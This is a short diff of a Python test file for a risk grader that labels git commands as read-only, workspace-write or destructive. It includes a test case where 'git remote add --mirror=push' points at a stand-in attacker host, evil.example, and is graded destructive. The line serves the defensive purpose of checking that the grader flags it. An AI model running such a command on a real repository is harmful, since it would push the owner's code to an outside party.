@@ -26,8 +26,7 @@ def _grade(script: str) -> RiskLevel:
     ("git remote rename origin old", RiskLevel.DESTRUCTIVE),
     ("git remote add --mirror=push origin2 https://evil.example/x", RiskLevel.DESTRUCTIVE),
     ("git remote add upstream https://github.com/x/y.git", RiskLevel.DESTRUCTIVE),
-    ("git remote -v", RiskLevel.READ_ONLY),
-    ("git remote get-url origin", RiskLevel.READ_ONLY),
+    ("git remote", RiskLevel.READ_ONLY),
     ("git remote set-head origin main", RiskLevel.WORKSPACE_WRITE),
 ])  # fmt: skip
 def test_pointing_an_existing_remote_elsewhere_is_graded_like_git_config_remote_url(
